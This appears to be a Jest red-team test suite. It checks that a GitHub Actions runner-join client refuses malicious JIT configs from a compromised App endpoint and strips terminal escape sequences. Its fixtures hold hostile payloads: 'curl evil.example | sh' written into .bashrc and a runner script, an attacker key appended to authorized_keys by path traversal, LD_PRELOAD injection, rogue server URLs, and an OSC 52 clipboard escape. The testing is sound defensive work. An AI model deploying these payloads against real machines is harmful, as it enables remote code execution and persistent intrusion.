// Red team: `runner join` must not let the App's answer (a malicious or compromised App endpoint:
// the app_url comes from a public settings file or a flag) make the volunteer's machine run
// something. The actions runner writes every key of the JIT config's JSON as a file under its root
// (Path.Combine(root, key): an absolute key or `../` escapes it) and talks to the servers the
// config names; the job-started hook only sees what that server tells the runner.
import { describe, it, expect, afterEach } from '@jest/globals';
import { chmodSync, existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { AppError, requestJitConfig } from '../../runner/app-client.js';
import { JoinLoop } from '../../runner/join-loop.js';
import { jitConfigProblem } from '../../runner/protocol.js';
import { fakeJitConfig, serve, tempDir, type Loopback } from './fakes.js';

const servers: Loopback[] = [];
afterEach(async () => {
  await Promise.all(servers.splice(0).map((s) => s.close()));
});

const b64 = (s: string) => Buffer.from(s).toString('base64');
const jitOf = (files: Record<string, string>) => b64(JSON.stringify(Object.fromEntries(Object.entries(files).map(([k, v]) => [k, b64(v)]))));
const runnerFile = (over: Record<string, unknown> = {}) =>
  JSON.stringify({ AgentId: 77, AgentName: 'ars-octocat-1', PoolId: 1, PoolName: 'Default', ServerUrl: 'https://pipelinesghubeus22.actions.githubusercontent.com/AbC/', GitHubUrl: 'https://github.com/acme/swarm', WorkFolder: '_work', UseV2Flow: true, ServerUrlV2: 'https://broker.actions.githubusercontent.com/', ...over });

const HOSTILE: [string, string][] = [
  ['a key that writes outside the runner (absolute path)', jitOf({ '.runner': runnerFile(), '/home/volunteer/.bashrc': 'curl evil.example | sh\n' })],
  ['a key that writes outside the runner (../)', jitOf({ '.runner': runnerFile(), '../../.ssh/authorized_keys': 'ssh-ed25519 AAAA attacker\n' })],
  ['a key that replaces the runner’s own script', jitOf({ '.runner': runnerFile(), 'run-helper.sh': '#!/bin/sh\ncurl evil.example | sh\n' })],
  ['a .env file (the runner loads it into every job: LD_PRELOAD)', jitOf({ '.runner': runnerFile(), '.env': 'LD_PRELOAD=/tmp/evil.so\n' })],
  ['a runner server that is not GitHub (it sends any job, and any repository name to the hook)', jitOf({ '.runner': runnerFile({ ServerUrl: 'https://actions.evil.example/', ServerUrlV2: 'https://broker.evil.example/' }) })],
  ['a plain-http GitHub look-alike', jitOf({ '.runner': runnerFile({ ServerUrlV2: 'http://broker.actions.githubusercontent.com/' }) })],
  ['a runner of another repository', jitOf({ '.runner': runnerFile({ GitHubUrl: 'https://github.com/mallory/anything' }) })],
  ['a work folder outside the runner copy', jitOf({ '.runner': runnerFile({ WorkFolder: '/home/volunteer' }) })],
  ['an OAuth token endpoint that is not GitHub', jitOf({ '.runner': runnerFile(), '.credentials': JSON.stringify({ Scheme: 'OAuth', Data: { clientId: 'x', authorizationUrl: 'https://token.evil.example/oauth2/token' } }) })],
  ['not a JIT config at all', 'cfg'],
];

async function appAnswering(body: object, status = 201): Promise<string> {
  const app = await serve((_req, res) => res.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(body)));
  servers.push(app);
  return app.url;
}

describe('runner join and a hostile App answer', () => {
  it('accepts the JIT config GitHub generates for the swarm’s repository', async () => {
    expect(jitConfigProblem(fakeJitConfig('ars-octocat-1', 'acme/swarm'), 'acme/swarm')).toBeNull();
    expect(jitConfigProblem(fakeJitConfig('ars-octocat-1', 'Acme/Swarm'), 'acme/swarm')).toBeNull();
    const url = await appAnswering({ runner_name: 'ars-octocat-1', runner_id: 1, labels: [], encoded_jit_config: fakeJitConfig('ars-octocat-1', 'acme/swarm') });
    await expect(requestJitConfig({ appUrl: url, token: 't', repo: 'acme/swarm', hardwareClass: 'cpu-x' })).resolves.toMatchObject({ runner_name: 'ars-octocat-1' });
  });

  it.each(HOSTILE)('refuses %s, and never starts the runner with it', async (_what, config) => {
    const url = await appAnswering({ runner_name: 'ars-octocat-1', runner_id: 1, labels: [], encoded_jit_config: config });
    const err = await requestJitConfig({ appUrl: url, token: 't', repo: 'acme/swarm', hardwareClass: 'cpu-x' }).catch((e) => e);
    expect(err).toBeInstanceOf(AppError);
    expect((err as AppError).message).toMatch(/runner configuration/);
    expect((err as AppError).retryable).toBe(false);

    const runnerDir = tempDir();
    const ran = join(runnerDir, 'ran');
    writeFileSync(join(runnerDir, 'run.sh'), `#!/bin/sh\ntouch '${ran}'\n`);
    chmodSync(join(runnerDir, 'run.sh'), 0o755);
    const loop = new JoinLoop({ appUrl: url, repo: 'acme/swarm', hardwareClass: 'cpu-x', auth: { token: 't', source: 'test', renew: null }, runnerDir, workRoot: tempDir(), log: () => undefined, maxJobs: 1 });
    await expect(loop.run()).rejects.toThrow(/runner configuration/);
    expect(existsSync(ran)).toBe(false);
  });

  it('prints no terminal control sequence the App sends (in a runner name or a refusal)', async () => {
    const esc = '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b[2K\u001b[1A\u009b31m';
    const named = await appAnswering({ runner_name: `ars-octocat-1${esc}`, runner_id: 1, labels: [], encoded_jit_config: fakeJitConfig('ars-octocat-1', 'acme/swarm') });
    const a = await requestJitConfig({ appUrl: named, token: 't', repo: 'acme/swarm', hardwareClass: 'cpu-x' }).catch((e) => e);
    expect(a).toBeInstanceOf(AppError);
    expect((a as AppError).message).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
    const refused = await appAnswering({ error: `you are banned${esc} all good, keep it running` }, 403);
    const b = await requestJitConfig({ appUrl: refused, token: 't', repo: 'acme/swarm', hardwareClass: 'cpu-x' }).catch((e) => e);
    expect(b).toBeInstanceOf(AppError);
    expect((b as AppError).message).toContain('you are banned');
    expect((b as AppError).message).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
  });
});
